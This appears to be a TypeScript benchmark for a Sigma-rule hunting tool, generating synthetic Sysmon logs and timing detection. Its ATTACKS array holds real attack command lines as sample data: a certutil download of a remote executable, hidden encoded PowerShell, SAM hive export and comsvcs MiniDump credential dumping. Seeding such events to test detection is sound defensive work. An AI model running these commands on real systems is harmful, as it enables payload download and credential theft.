/**
 * Issue 2 benchmark: `warden hunt` with every SigmaHQ Windows rule over 1,000,000
 * Sysmon-like events, next to the bare floor (read lines + JSON.parse) on the same file.
 *
 * Env: WARDEN_BENCH_EVENTS (default 1,000,000), WARDEN_BENCH_RULES (default: SigmaHQ's
 * Windows rules in shared/ beside the checkout, see shared-data.ts), WARDEN_BENCH_DIR
 * (default /tmp/warden-bench), WARDEN_BENCH_THREADS (default "1,2").
 *
 * Each run reports wall time and CPU-seconds (all threads), so a run on a busy machine is
 * read by its CPU time; 1 and 2 threads must find the same detections (compared by a digest
 * of their sorted ids).
 */
import { createHash } from 'node:crypto';
import { createReadStream, existsSync, mkdirSync, statSync } from 'node:fs';
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { hunt } from '../src/hunt/run.js';
import type { Detection } from '../src/event/detection.js';
import type { DetectionSink } from '../src/event/sink.js';
import { ProblemList } from '../src/errors.js';
import { prng } from '../test/helpers/prng.js';
import { benchRules, describeRules } from './shared-data.js';
import { ThreadCpu, type ThreadTimes } from './thread-cpu.js';

const BENIGN_PROCS = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git status --porcelain', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
  [
    'C:\\Windows\\System32\\SearchProtocolHost.exe',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_',
    'C:\\Windows\\System32\\SearchIndexer.exe',
  ],
];
/** Processes that talk to the internet in the benign background. */
const NET_PROCS = [
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe',
];
const ATTACKS = [
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'c:\\windows\\system32\\inetsrv\\w3wp.exe'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'c:\\windows\\system32\\inetsrv\\w3wp.exe',
  ],
  ['C:\\Windows\\System32\\inetsrv\\appcmd.exe', 'appcmd.exe install module /name:CacheHelper /image:C:\\Windows\\Temp\\helper.dll', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', 'C:\\Windows\\System32\\cmd.exe'],
];

function sysmonRecord(rec: number, eid: number, time: string, data: Record<string, unknown>): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: eid,
        Version: 5,
        Level: 4,
        Task: eid,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: rec,
        Execution: { '#attributes': { ProcessID: 2412, ThreadID: 3380 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: `WS${rec % 50}.corp.example`,
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  });
}

export async function generate(path: string, count: number, seed = 1505): Promise<{ attacks: number }> {
  const rnd = prng(seed);
  const out = createWriteStream(path);
  const pick = <T>(a: T[]): T => a[Math.floor(rnd() * a.length)]!;
  let t = Date.UTC(2026, 0, 1);
  let attacks = 0;
  let buf: string[] = [];
  for (let i = 1; i <= count; i++) {
    t += Math.floor(rnd() * 200);
    const time = new Date(t).toISOString();
    const r = rnd();
    const guid = `{6A3F1C2E-${(i % 65536).toString(16).padStart(4, '0')}-65E2-2F01-000000000A00}`;
    let line: string;
    if (r < 0.0003) {
      attacks++;
      const [img, cmd, parent] = pick(ATTACKS);
      line = sysmonRecord(i, 1, time, {
        RuleName: '-',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 4000 + (i % 3000),
        Image: img,
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: 'IIS APPPOOL\\DefaultAppPool',
        IntegrityLevel: 'High',
        ParentImage: parent,
        ParentCommandLine: parent,
        ParentProcessId: 4388,
      });
    } else if (r < 0.4) {
      const [img, cmd, parent] = pick(BENIGN_PROCS);
      line = sysmonRecord(i, 1, time, {
        RuleName: '-',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 4000 + (i % 3000),
        Image: img,
        FileVersion: '10.0.19041.1',
        Description: 'Windows component',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: img!.split('\\').pop()!,
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: 'CORP\\alice',
        LogonId: '0x3e7',
        IntegrityLevel: 'Medium',
        Hashes: 'SHA256=6A3F1C2E5C1F2C1A0B1D6E0F0C1B2A39F8E7D6C5B4A3928170605040302010F',
        ParentImage: parent,
        ParentCommandLine: parent,
        ParentProcessId: 640,
      });
    } else if (r < 0.6) {
      line = sysmonRecord(i, 11, time, {
        RuleName: '-',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 5120,
        Image: pick(BENIGN_PROCS)[0],
        TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\tmp${(i * 7919) % 100000}.tmp`,
        CreationUtcTime: time,
        User: 'CORP\\alice',
      });
    } else if (r < 0.8) {
      line = sysmonRecord(i, 3, time, {
        RuleName: '-',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 5120,
        Image: pick(NET_PROCS),
        User: 'CORP\\alice',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIsIpv6: 'false',
        SourceIp: `10.0.${i % 255}.${(i * 3) % 255}`,
        SourceHostname: 'ws.corp.example',
        SourcePort: 49152 + (i % 10000),
        DestinationIsIpv6: 'false',
        DestinationIp: `93.184.${i % 255}.${(i * 5) % 255}`,
        DestinationHostname: 'example.com',
        DestinationPort: 443,
        DestinationPortName: 'https',
      });
    } else if (r < 0.95) {
      line = sysmonRecord(i, 13, time, {
        RuleName: '-',
        EventType: 'SetValue',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 5120,
        Image: pick(BENIGN_PROCS)[0],
        TargetObject: `HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\${i % 97}`,
        Details: `DWORD (0x0000000${i % 9})`,
        User: 'CORP\\alice',
      });
    } else {
      line = sysmonRecord(i, 7, time, {
        RuleName: '-',
        UtcTime: time,
        ProcessGuid: guid,
        ProcessId: 5120,
        Image: pick(BENIGN_PROCS)[0],
        ImageLoaded: 'C:\\Windows\\System32\\kernelbase.dll',
        FileVersion: '10.0.19041.1',
        Description: 'Windows NT BASE API Client DLL',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: 'Kernelbase.dll',
        Hashes: 'SHA256=1B48A4F8D20026E6C56E3AB4CC4788FA6425C8A75F8D91C2869FA533DE6B209E',
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
        User: 'CORP\\alice',
      });
    }
    buf.push(line);
    if (buf.length >= 5000) {
      if (!out.write(buf.join('\n') + '\n')) await once(out, 'drain');
      buf = [];
    }
  }
  if (buf.length) out.write(buf.join('\n') + '\n');
  out.end();
  await once(out, 'finish');
  return { attacks };
}

/** The floor: read the file, split lines, JSON.parse each — nothing else. */
export async function floor(path: string): Promise<{ events: number; ms: number }> {
  const start = performance.now();
  let events = 0;
  let pending = '';
  for await (const chunk of createReadStream(path, { encoding: 'utf8', highWaterMark: 1 << 20 })) {
    const text = pending + (chunk as string);
    let i = 0;
    for (;;) {
      const j = text.indexOf('\n', i);
      if (j < 0) break;
      if (j > i) {
        JSON.parse(text.slice(i, j));
        events++;
      }
      i = j + 1;
    }
    pending = text.slice(i);
  }
  if (pending.trim()) {
    JSON.parse(pending);
    events++;
  }
  return { events, ms: performance.now() - start };
}

/** Keeps only the detections' ids (16 bytes each), for a digest that does not depend on order. */
class IdDigest implements DetectionSink {
  private readonly ids: string[] = [];
  async detections(ds: readonly Detection[]): Promise<void> {
    for (const d of ds) this.ids.push(d.id);
  }
  get total(): number {
    return this.ids.length;
  }
  async close(): Promise<void> {}
  digest(): string {
    return createHash('sha256').update(this.ids.sort().join('\n')).digest('hex').slice(0, 16);
  }
}

async function child(file: string, rules: string, threads: number): Promise<void> {
  const problems = new ProblemList();
  const ids = new IdDigest();
  const cpu0 = process.cpuUsage();
  const clock = ThreadCpu.start();
  const stats = await hunt({ inputs: [file], rules: { rulePaths: [rules], builtin: false }, threads }, [ids], problems);
  const threadCpu = clock?.stop();
  const cpu = process.cpuUsage(cpu0);
  const ru = process.resourceUsage();
  process.stdout.write(
    JSON.stringify({
      events: stats.events,
      ms: stats.elapsedMs,
      cpuS: (cpu.user + cpu.system) / 1e6,
      detections: ids.total,
      digest: ids.digest(),
      rules: stats.rulesLoaded,
      threads: stats.threads,
      maxRssMb: Math.round(ru.maxRSS / 1024),
      problems: problems.count,
      threadCpu,
    }) + '\n',
  );
}

export async function run(): Promise<void> {
  const count = Number(process.env.WARDEN_BENCH_EVENTS ?? 1_000_000);
  const found = benchRules();
  if ('missing' in found) {
    process.stdout.write(`skipped: ${found.missing}\n`);
    return;
  }
  const rules = found.path;
  process.stdout.write(`${describeRules(found)}\n`);
  const dir = process.env.WARDEN_BENCH_DIR ?? '/tmp/warden-bench';
  mkdirSync(dir, { recursive: true });
  const file = join(dir, `sysmon-${count}.jsonl`);
  if (!existsSync(file)) {
    const g = await generate(file, count);
    process.stdout.write(`generated ${file}: ${count.toLocaleString('en-US')} events, ${g.attacks} attack events (seed 1505)\n`);
  }
  const mb = statSync(file).size / 1e6;
  const fcpu0 = process.cpuUsage();
  const fl = await floor(file);
  const fcpu = process.cpuUsage(fcpu0);
  const floorCpuS = (fcpu.user + fcpu.system) / 1e6;
  const floorRate = fl.events / (fl.ms / 1000);
  process.stdout.write(
    `floor (read + JSON.parse, 1 thread): ${fl.events.toLocaleString('en-US')} events in ${(fl.ms / 1000).toFixed(2)} s = ${Math.round(floorRate).toLocaleString('en-US')} events/s (${(mb / (fl.ms / 1000)).toFixed(1)} MB/s), ${floorCpuS.toFixed(2)} CPU-s\n`,
  );
  const runs: { threads: number; rate: number; cpuS: number; digest: string; detections: number; busiest?: number }[] = [];
  for (const threads of (process.env.WARDEN_BENCH_THREADS ?? '1,2').split(',').map(Number)) {
    const r = spawnSync(process.execPath, [fileURLToPath(import.meta.url), '--child', file, rules, String(threads)], { encoding: 'utf8', maxBuffer: 1 << 26 });
    if (r.status !== 0) {
      process.stdout.write(`hunt (${threads} thread(s)) failed: ${r.stderr}\n`);
      continue;
    }
    const s = JSON.parse(r.stdout.trim().split('\n').pop()!) as {
      events: number;
      ms: number;
      cpuS: number;
      detections: number;
      digest: string;
      rules: number;
      threads: number;
      maxRssMb: number;
      threadCpu?: ThreadTimes;
    };
    const rate = s.events / (s.ms / 1000);
    const tc = s.threadCpu;
    const busiest = tc ? Math.max(tc.main, tc.others[0] ?? 0) : undefined;
    runs.push({ threads: s.threads, rate, cpuS: s.cpuS, digest: s.digest, detections: s.detections, busiest });
    process.stdout.write(
      `warden hunt, ${s.rules.toLocaleString('en-US')} rules, ${s.threads} thread(s): ${s.events.toLocaleString('en-US')} events in ${(s.ms / 1000).toFixed(2)} s, ${s.cpuS.toFixed(2)} CPU-s (rule loading included) = ${Math.round(rate).toLocaleString('en-US')} events/s; ratio to floor ${(rate / floorRate).toFixed(2)} (by CPU-s per thread: ${(floorCpuS / (s.cpuS / s.threads)).toFixed(2)}); ${s.detections} detections (ids ${s.digest}); peak RSS ${s.maxRssMb} MB\n`,
    );
    if (tc) {
      const shown = tc.others.slice(0, s.threads + 1).map((x) => x.toFixed(2));
      const rest = tc.others.slice(s.threads + 1).reduce((a, b) => a + b, 0);
      process.stdout.write(
        `  CPU-s per thread (sampled every 0.1 s): main ${tc.main.toFixed(2)}; busiest others ${shown.join(', ')}; the rest (GC and I/O helpers) ${rest.toFixed(2)}; ratio to the floor by the busiest thread's CPU-s ${(floorCpuS / busiest!).toFixed(2)}\n`,
      );
    }
  }
  const one = runs.find((x) => x.threads === 1);
  for (const m of runs) {
    if (!one || m === one) continue;
    process.stdout.write(
      `${m.threads} threads vs 1: ${(m.rate / one.rate).toFixed(2)}x the events/s, ${(m.cpuS / one.cpuS).toFixed(2)}x the CPU-seconds; detections ${m.digest === one.digest && m.detections === one.detections ? 'identical' : `DIFFER (${m.detections} vs ${one.detections})`}\n`,
    );
    if (one.busiest && m.busiest) {
      // Wall time on a shared machine depends on what else runs; the busiest thread's CPU time does not.
      process.stdout.write(
        `  with a free core per thread (busiest thread's CPU-s, 1 thread / ${m.threads}): ~${(one.busiest / m.busiest).toFixed(2)}x the events/s of 1 thread; ~${(one.busiest / m.busiest / m.threads).toFixed(2)} of linear scaling\n`,
      );
    }
  }
}

if (process.argv[2] === '--child') {
  await child(process.argv[3]!, process.argv[4]!, Number(process.argv[5]));
}
